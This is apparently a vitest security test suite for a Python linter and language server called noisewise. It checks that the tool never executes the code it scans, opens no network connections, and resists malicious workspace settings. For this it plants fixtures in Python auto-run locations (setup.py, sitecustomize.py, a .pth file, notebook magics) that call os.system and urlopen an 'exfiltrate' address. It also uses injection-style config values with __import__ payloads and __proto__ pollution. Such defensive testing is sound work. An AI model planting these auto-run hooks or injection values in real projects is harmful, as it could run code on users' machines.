// Safety and trust: noisewise reads code and never runs it. The CLI and the server work with networking disabled
// (`unshare -n`); a preloaded hook (and, where strace is installed, the kernel's own record of execve, socket, connect
// and openat) shows that no process is started, no connection opened and no file outside the workspace read, even
// for a workspace full of code that would do harm if imported and settings crafted to misbehave. The server survives
// a client that sends garbage or disappears in the middle of a check.
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, requireBundle } from '../helpers/cli-run';
import { editorCapabilities, LspSession, uriOf } from '../lsp/lsp-client';
import { recordCount, REPO } from './fixtures';
import { unconstrainedStdClass } from '../helpers/snippets';

const HOOK = path.join(__dirname, 'no-exec-hook.cjs');

/** A flagged layer (unconstrained-std) whose module would also write a marker file if it were ever imported. */
function harmful(marker: string): string {
  return [
    'import os',
    'import subprocess',
    'import urllib.request',
    'import torch',
    'from torch import nn',
    '',
    `open(${JSON.stringify(marker)}, "w").write("imported")`,
    `os.system("touch ${marker}")`,
    `subprocess.run(["touch", ${JSON.stringify(marker)}])`,
    'urllib.request.urlopen("http://192.0.2.1/exfiltrate")',
    '',
    '',
    ...unconstrainedStdClass('StageNoise'),
  ].join('\n');
}

let parent: string;
let workspace: string;
let outside: string;
let marker: string;

beforeAll(() => {
  requireBundle();
  parent = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'noisewise-sandbox-')));
  workspace = path.join(parent, 'lab');
  outside = path.join(parent, 'elsewhere');
  marker = path.join(parent, 'PWNED');
  fs.mkdirSync(path.join(workspace, 'gauges'), { recursive: true });
  fs.mkdirSync(outside);
  const code = harmful(marker);
  // Every place Python would run code on its own: a package's __init__, setup.py, conftest.py, sitecustomize.py, a .pth.
  for (const rel of ['gauges/__init__.py', 'gauges/layers.py', 'setup.py', 'conftest.py', 'sitecustomize.py', 'train.py']) fs.writeFileSync(path.join(workspace, rel), code);
  fs.writeFileSync(path.join(workspace, 'gauges.pth'), `import os; os.system("touch ${marker}")\n`);
  fs.writeFileSync(
    path.join(workspace, 'explore.ipynb'),
    `${JSON.stringify({ cells: [{ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source: [`!touch ${marker}\n`, `%run -i setup.py\n`, `%%bash\n`] }, { cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source: code }], metadata: { language_info: { name: 'python' } }, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`,
  );
  // Settings that try to reach out of the workspace: an exclude glob upwards, links to files elsewhere.
  fs.writeFileSync(path.join(workspace, 'pyproject.toml'), '[tool.noisewise]\nexclude = ["../**", "../elsewhere/**", "**/../../**"]\ndataset-size-names = ["n_train", "cfg.n_train"]\n');
  fs.writeFileSync(path.join(outside, 'secret_model.py'), code);
  fs.symlinkSync(path.join(outside, 'secret_model.py'), path.join(workspace, 'linked_model.py'));
  fs.symlinkSync(outside, path.join(workspace, 'linked_dir'));
}, 60_000);

afterAll(() => fs.rmSync(parent, { recursive: true, force: true }));

function run(prefix: string[], args: string[], env: Record<string, string> = {}): { code: number | null; stdout: string; stderr: string } {
  const [command, ...rest] = [...prefix, process.execPath, ...args];
  const result = spawnSync(command!, rest, { cwd: workspace, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', ...env }, timeout: 120_000 });
  if (result.error) throw result.error;
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

/** Whether a tool can be used here; with `requiredInCi`, a missing one fails the suite in CI instead of skipping. */
function available(tool: string, probe: string[], requiredInCi: boolean): boolean {
  const ok = spawnSync(tool, probe, { stdio: 'ignore' }).status === 0;
  if (!ok && requiredInCi && process.env.CI) throw new Error(`${tool} ${probe.join(' ')} must work in CI for the sandbox tests (apt-get install util-linux; run as root or with user namespaces)`);
  return ok;
}

const hasUnshare = available('unshare', ['-n', 'true'], true);
// The preloaded hook is the portable check; strace adds the kernel's own record where it is installed.
const hasStrace = available('strace', ['-o', '/dev/null', 'true'], false);

/** Starts the server under a command prefix and initialises it on the workspace. */
async function serverSession(prefix: string[], env: Record<string, string>, settings: Record<string, unknown> = {}): Promise<LspSession> {
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'noisewise-sandbox-home-'));
  const [command, ...rest] = [...prefix, process.execPath, ...(env.NOISEWISE_HOOK_LOG ? ['--require', HOOK] : []), BIN, 'server', '--stdio'];
  const child: ChildProcess = spawn(command!, rest, { cwd: workspace, stdio: ['pipe', 'pipe', 'pipe'], env: { ...process.env, HOME: home, XDG_CACHE_HOME: path.join(home, '.cache'), ...env } });
  const session = new LspSession(child, { root: workspace, settings });
  session.initializeResult = await session.connection.sendRequest('initialize', { processId: process.pid, rootUri: uriOf(workspace), workspaceFolders: [{ uri: uriOf(workspace), name: 'lab' }], capabilities: editorCapabilities() });
  await session.connection.sendNotification('initialized', {});
  await session.waitFor('indexing to finish', () => session.logs.find((l) => l.message.includes('indexing (start-up) finished')), 60_000);
  return session;
}

/** Drives a session through what an editor does: open, edit, hover, quick fixes, fix all. */
async function exercise(session: LspSession): Promise<void> {
  const uri = uriOf(path.join(workspace, 'train.py'));
  const text = fs.readFileSync(path.join(workspace, 'train.py'), 'utf8');
  session.open(uri, text, 1);
  const first = await session.diagnosticsFor(uri, { version: 1 });
  expect(first.diagnostics.map((d) => d.code)).toContain('unconstrained-std');
  session.change(uri, 2, [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: 'import sys\n' }]);
  const second = await session.diagnosticsFor(uri, { version: 2 });
  const d = second.diagnostics.find((x) => x.code === 'unconstrained-std')!;
  await session.connection.sendRequest('textDocument/hover', { textDocument: { uri }, position: d.range.start });
  await session.connection.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: d.range, context: { diagnostics: [d] } });
  await session.connection.sendRequest('textDocument/codeAction', { textDocument: { uri }, range: d.range, context: { diagnostics: [], only: ['source.fixAll.noisewise'] } });
  await session.connection.sendRequest('workspace/executeCommand', { command: 'noisewise.server.checkWorkspace', arguments: [] });
}

describe('no network', () => {
  it.runIf(hasUnshare)('checks the same with networking disabled (unshare -n) as with it', () => {
    const normal = run([], [BIN, 'check', '.', '--format', 'json']);
    const isolated = run(['unshare', '-n'], [BIN, 'check', '.', '--format', 'json']);
    expect(isolated.code, isolated.stderr).toBe(1);
    expect(isolated.stdout).toBe(normal.stdout);
    expect((JSON.parse(isolated.stdout) as { findings: unknown[] }).findings.length).toBeGreaterThan(3);
    expect(fs.existsSync(marker)).toBe(false);
  });

  it.runIf(hasUnshare)('serves an editor with networking disabled (unshare -n)', async () => {
    const session = await serverSession(['unshare', '-n'], {});
    try {
      await exercise(session);
      expect(session.child.exitCode).toBeNull();
    } finally {
      expect(await session.stop()).toBe(0);
    }
    expect(fs.existsSync(marker)).toBe(false);
  });

  if (!hasUnshare) {
    it.skip('needs unshare -n (util-linux, and the right to make a network namespace) to disable networking', () => undefined);
  }
});

describe('no code execution', () => {
  it('starts no process, opens no connection and evaluates nothing while checking and fixing (CLI, preloaded hook)', () => {
    const log = path.join(parent, 'cli-hook.log');
    for (const args of [['check', '.', '--format', 'json'], ['check', '.', '--jobs', '2'], ['check', '.', '--diff']]) {
      const out = run([], ['--require', HOOK, BIN, ...args], { NOISEWISE_HOOK_LOG: log });
      // --diff exits on what the fixes would leave: 0 when they fix everything.
      expect([0, 1], `${args.join(' ')}: ${out.stderr}`).toContain(out.code);
    }
    expect(fs.existsSync(log) ? fs.readFileSync(log, 'utf8') : '').toBe('');
    expect(fs.existsSync(marker)).toBe(false);
  });

  it('starts no process and opens no connection while serving an editor (server, preloaded hook)', async () => {
    const log = path.join(parent, 'server-hook.log');
    const session = await serverSession([], { NOISEWISE_HOOK_LOG: log });
    try {
      await exercise(session);
    } finally {
      await session.stop();
    }
    expect(fs.existsSync(log) ? fs.readFileSync(log, 'utf8') : '').toBe('');
    expect(fs.existsSync(marker)).toBe(false);
  });

  /** The system calls of a traced run: processes started, sockets, connections, and the files opened. */
  function traced(file: string): { execs: string[]; sockets: string[]; opened: string[] } {
    const lines = fs.readFileSync(file, 'utf8').split('\n');
    return {
      execs: lines.filter((l) => /\bexecve\(/.test(l)),
      sockets: lines.filter((l) => /\b(socket|connect)\(/.test(l) && !/AF_UNIX|AF_LOCAL/.test(l)),
      opened: lines.filter((l) => /\bopenat\(/.test(l) && !/= -1 /.test(l)).map((l) => /openat\([^"]*"([^"]*)"/.exec(l)?.[1] ?? ''),
    };
  }

  /** Files a run may open: the workspace, noisewise itself, the system, its own cache, and configuration above it. */
  function unexpectedFiles(opened: string[]): string[] {
    const folders = [workspace, path.join(REPO, 'server'), path.join(REPO, 'node_modules')];
    const system = ['/usr/', '/lib', '/proc/', '/sys/', '/dev/', '/etc/ld.so.', '/etc/ssl/', '/etc/localtime'];
    return opened.filter(
      (p) =>
        p !== '' &&
        !folders.some((f) => p === f || p.startsWith(`${f}/`)) &&
        !system.some((prefix) => p.startsWith(prefix)) &&
        // Configuration is looked up in the folders above a file, as pyproject.toml and .gitignore are meant to be.
        !/(^|\/)(pyproject\.toml|\.gitignore|exclude)$/.test(p),
    );
  }

  it.runIf(hasStrace)('makes one execve, no socket and reads nothing outside the workspace (CLI, strace)', () => {
    const trace = path.join(parent, 'cli.trace');
    const out = run(['strace', '-f', '-qq', '-e', 'trace=execve,socket,connect,openat', '-o', trace], [BIN, 'check', '.', '--format', 'json', '--jobs', '2']);
    expect(out.code, out.stderr).toBe(1);
    const calls = traced(trace);
    expect(calls.execs).toHaveLength(1);
    expect(calls.sockets).toEqual([]);
    expect(unexpectedFiles(calls.opened)).toEqual([]);
    expect(calls.opened.some((p) => p.startsWith(outside))).toBe(false);
    expect(calls.opened.some((p) => p === path.join(workspace, 'train.py'))).toBe(true);
  });

  it.runIf(hasStrace)('makes one execve, no socket and reads nothing outside the workspace (server, strace)', async () => {
    const trace = path.join(parent, 'server.trace');
    const session = await serverSession(['strace', '-f', '-qq', '-e', 'trace=execve,socket,connect,openat', '-o', trace], {});
    try {
      await exercise(session);
    } finally {
      await session.stop();
    }
    const calls = traced(trace);
    expect(calls.execs).toHaveLength(1);
    expect(calls.sockets).toEqual([]);
    // The server's own home (rule pages are cached there) is a fresh temporary folder.
    expect(unexpectedFiles(calls.opened).filter((p) => !p.includes('noisewise-sandbox-home-'))).toEqual([]);
    expect(calls.opened.some((p) => p.startsWith(outside))).toBe(false);
  });

  if (!hasStrace) {
    it.skip('needs strace for the kernel-level record (apt-get install strace)', () => undefined);
  }
});

describe('settings from an untrusted workspace', () => {
  it('cannot name an absolute exclude, code as a dataset-size name, or an unknown rule (CLI exits 2 with the key named)', () => {
    const cases: [string, RegExp][] = [
      ['[tool.noisewise]\nexclude = ["/etc/**"]\n', /exclude\[0\]" \("\/etc\/\*\*"\) must be relative/],
      ['[tool.noisewise]\ndataset-size-names = ["__import__(\'os\').system(\'touch x\')"]\n', /is not a Python name or dotted name/],
      ['[tool.noisewise.severity]\n"__proto__" = "off"\n', /unknown rule id "__proto__"/],
      ['[tool.noisewise]\nseverity = { unconstrained-std = { run = "touch x" } }\n', /must be a string/],
    ];
    const dir = path.join(parent, 'configs');
    for (const [i, [toml, message]] of cases.entries()) {
      const project = path.join(dir, `p${i}`);
      fs.mkdirSync(project, { recursive: true });
      fs.writeFileSync(path.join(project, 'pyproject.toml'), toml);
      fs.writeFileSync(path.join(project, 'a.py'), 'x = 1\n');
      const result = spawnSync(process.execPath, [BIN, 'check', '.'], { cwd: project, encoding: 'utf8' });
      expect(result.status, toml).toBe(2);
      expect(result.stderr, toml).toMatch(message);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('keeps an exclude glob pointing upwards and links out of the workspace from reaching files elsewhere', () => {
    const out = run([], [BIN, 'check', '.', '--format', 'json']);
    const report = JSON.parse(out.stdout) as { findings: { path: string }[]; notes: { path: string; message: string }[] };
    expect(report.findings.some((f) => /linked|secret|elsewhere/.test(f.path))).toBe(false);
    expect(report.notes.filter((n) => /outside the checked folders/.test(n.message)).map((n) => n.path)).toEqual(['linked_dir', 'linked_model.py']);
    // --fix on a copy (the other tests need the flagged files as they are): the file behind the link stays untouched.
    const copy = path.join(parent, 'lab-copy');
    fs.cpSync(workspace, copy, { recursive: true, verbatimSymlinks: true });
    const fixed = spawnSync(process.execPath, [BIN, 'check', '.', '--fix'], { cwd: copy, encoding: 'utf8' });
    expect([0, 1], fixed.stderr).toContain(fixed.status);
    expect(fs.readFileSync(path.join(copy, 'train.py'), 'utf8')).not.toBe(harmful(marker));
    expect(fs.readFileSync(path.join(outside, 'secret_model.py'), 'utf8')).toBe(harmful(marker));
  });

  it('drops editor settings crafted to misbehave with a log line each and keeps checking (server)', async () => {
    const session = await serverSession([], {}, {
      exclude: ['../../**', '/etc/**', '../elsewhere/**'],
      datasetSizeNames: ["__import__('os').system('touch x')", 'n_train'],
      // Parsed from JSON, as it arrives over the wire: "__proto__" is then an ordinary key, not the prototype.
      severity: JSON.parse('{"__proto__": {"polluted": "off"}, "unconstrained-std": {"run": "touch x"}, "no-such-rule": "error"}') as Record<string, unknown>,
    });
    try {
      await exercise(session);
      const logged = session.logs.map((l) => l.message).join('\n');
      expect(logged).toMatch(/"noisewise\.datasetSizeNames": "__import__\('os'\)\.system\('touch x'\)" is not a Python name/);
      expect(logged).toMatch(/"noisewise\.severity\.unconstrained-std": "\[object Object\]" is not one of/);
      expect(logged).toMatch(/unknown rule id "no-such-rule"/);
      expect(session.pushed.some((p) => p.uri.includes('elsewhere') || p.uri.includes('secret_model'))).toBe(false);
    } finally {
      await session.stop();
    }
    expect(fs.existsSync(marker)).toBe(false);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    recordCount('sandboxed runs', 6);
  });
});

describe('a client that misbehaves or disappears', () => {
  it('answers after garbage frames, invalid JSON and a request for an unknown method', async () => {
    const session = await serverSession([], {});
    try {
      const stdin = session.child.stdin!;
      stdin.write('Content-Length: 9\r\n\r\n{"bad": }');
      stdin.write('Content-Length: 44\r\n\r\n{"jsonrpc":"2.0","id":"x","method":42,"a":1}');
      stdin.write('Content-Length: 2\r\n\r\n[]');
      const uri = uriOf(path.join(workspace, 'train.py'));
      session.open(uri, fs.readFileSync(path.join(workspace, 'train.py'), 'utf8'), 1);
      const published = await session.diagnosticsFor(uri, { version: 1 });
      expect(published.diagnostics.map((d) => d.code)).toContain('unconstrained-std');
      expect(session.child.exitCode).toBeNull();
    } finally {
      session.child.kill('SIGKILL');
    }
  });

  it('exits, rather than hangs, when the client disappears in the middle of a long check', async () => {
    const session = await serverSession([], {});
    const long = `${fs.readFileSync(path.join(workspace, 'train.py'), 'utf8')}\n${'x = torch.exp(y) * sigma + model(x).mean(0)\n'.repeat(40_000)}`;
    session.open(uriOf(path.join(workspace, 'long.py')), long, 1);
    // Let the open reach the server (the writer is asynchronous), then go without shutdown or exit while it checks.
    await new Promise((resolve) => setTimeout(resolve, 300));
    session.connection.dispose();
    session.child.stdin!.end();
    session.child.stdout!.destroy();
    const code = await Promise.race([session.exited, new Promise((resolve) => setTimeout(() => resolve('still running'), 30_000))]);
    expect(code).not.toBe('still running');
    if (session.child.exitCode === null) session.child.kill('SIGKILL');
  });
});
